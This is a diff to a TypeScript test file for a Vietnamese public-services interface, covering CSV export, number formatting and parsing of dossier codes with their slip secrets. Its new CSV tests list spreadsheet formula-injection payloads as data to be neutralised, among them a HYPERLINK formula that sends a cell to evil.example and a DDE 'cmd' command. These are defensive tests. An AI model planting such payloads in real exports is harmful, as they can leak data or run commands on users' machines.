@@ -1,5 +1,6 @@
 import i18n from 'i18next';
-import { toCsv } from '../../src/ui/csv';
+import { type DueSource, dueTone, dueWords } from '../../src/ui/page/due-text';
+import { notFormula, toCsv } from '../../src/ui/text/csv';
 import {
   formatDate,
   formatDateTime,
@@ -9,13 +10,12 @@ import {
   formatMonthShort,
   isSameDay,
   toDay,
-} from '../../src/ui/date-format';
-import { readDossierCode } from '../../src/ui/dossier-code';
-import { dueMomentText } from '../../src/ui/due-moment-text';
-import { type DueSource, dueTone, dueWords } from '../../src/ui/due-text';
-import { durationText } from '../../src/ui/duration-text';
-import { limitText } from '../../src/ui/limit-text';
-import { formatDecimal, formatDong, formatNumber, formatPercent, formatRate } from '../../src/ui/number-format';
+} from '../../src/ui/text/date-format';
+import { readDossierCode, readSlipCode } from '../../src/ui/text/dossier-code';
+import { dueMomentText } from '../../src/ui/text/due-moment-text';
+import { durationText } from '../../src/ui/text/duration-text';
+import { limitText } from '../../src/ui/text/limit-text';
+import { formatDecimal, formatDong, formatNumber, formatPercent, formatRate } from '../../src/ui/text/number-format';
 
 const t = i18n.getFixedT('vi', 'common') as Parameters<typeof dueWords>[0];
 const row = (change: Partial<DueSource>): DueSource => ({
@@ -113,8 +113,8 @@ describe('in English', () => {
   });
 
   it('a count inside a sentence is written like any other number', () => {
-    expect(i18n.t('find.found', { ns: 'public', count: 1148 })).toBe('1,148 procedures found');
-    expect(i18n.getFixedT('vi', 'public')('find.found', { count: 7 })).toBe('Tìm thấy 7 thủ tục');
+    expect(i18n.t('limit.WORKING_DAYS', { count: 1148 })).toBe('1,148 working days');
+    expect(i18n.getFixedT('vi', 'common')('limit.WORKING_DAYS', { count: 7 })).toBe('7 ngày làm việc');
   });
 });
 
@@ -130,6 +130,33 @@ describe('the exported file', () => {
       ),
     ).toBe('a,b\r\n"x,""y""",\'=1+1\r\n,2');
   });
+
+  it.each([
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '+84912345678',
+    '-2+3+cmd|" /C calc"!A0',
+    '@SUM(1+1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '  =1',
+    '＝1＋1',
+    '－1',
+  ])('makes text of %j', (text) => {
+    expect(notFormula(text)).toBe(`'${text}`);
+    const [, row] = /^x\r\n(.*)$/s.exec(toCsv(['x'], [[text]]))!;
+    expect(row!.replace(/^"/, '').startsWith("'")).toBe(true);
+  });
+
+  it('lets no cell begin in the middle of another, whatever parts the cells', () => {
+    expect(toCsv(['a'], [['x;=1+1'], ['x\t=1+1'], ['x\n=1+1']])).toBe('a\r\n"x;=1+1"\r\n"x\t=1+1"\r\n"x\n=1+1"');
+  });
+
+  it('leaves numbers numbers, and texts that only have such a sign inside', () => {
+    expect(toCsv(['a'], [[-5], ['-5'], ['-1.234,5'], ['A = B'], ['hoa@example.vn'], ['2026-11-23']])).toBe(
+      'a\r\n-5\r\n-5\r\n"-1.234,5"\r\nA = B\r\nhoa@example.vn\r\n2026-11-23',
+    );
+  });
 });
 
 describe('the code of a dossier', () => {
@@ -138,6 +165,27 @@ describe('the code of a dossier', () => {
     expect(readDossierCode(code)).toBe(code);
     expect(readDossierCode(`https://hcc.example/?ma=${code}`)).toBe(code);
     expect(readDossierCode(' 000.17.28.h56 - 210305 - 0007 ')).toBe(code);
+    expect(readDossierCode(`http://localhost:4000/?ma=${code}#7KXS3M9PQ2RTV4`)).toBe(code);
     expect(readDossierCode('khai sinh')).toBeUndefined();
+    expect(readDossierCode('000.17.28.H56-210305-007')).toBeUndefined();
+  });
+
+  it('is told from the secret that a slip carries beside it, however both are typed', () => {
+    const code = '000.17.28.H56-210305-0007';
+    const whole = { code, key: '7KXS3M9PQ2RTV4' };
+    for (const typed of [
+      `https://hcc.example/?ma=${code}#7KXS3M9PQ2RTV4`,
+      `${code} 7KXS3-M9PQ-2RTV4`,
+      ` ${code.toLowerCase()}  7kxs3 m9pq 2rtv4 `,
+      `${code}-7KXS3-M9PQ-2RTV4`,
+      `${code}7KXS3M9PQ2RTV4`,
+    ]) {
+      expect(readSlipCode(typed)).toEqual(whole);
+    }
+    expect(readSlipCode('000.17.28.H56-210305-12345 0123-4567-890123')).toEqual({
+      code: '000.17.28.H56-210305-12345',
+      key: '01234567890123',
+    });
+    expect(readSlipCode(`${code} 7KXS3`)).toEqual({ code });
   });
 });
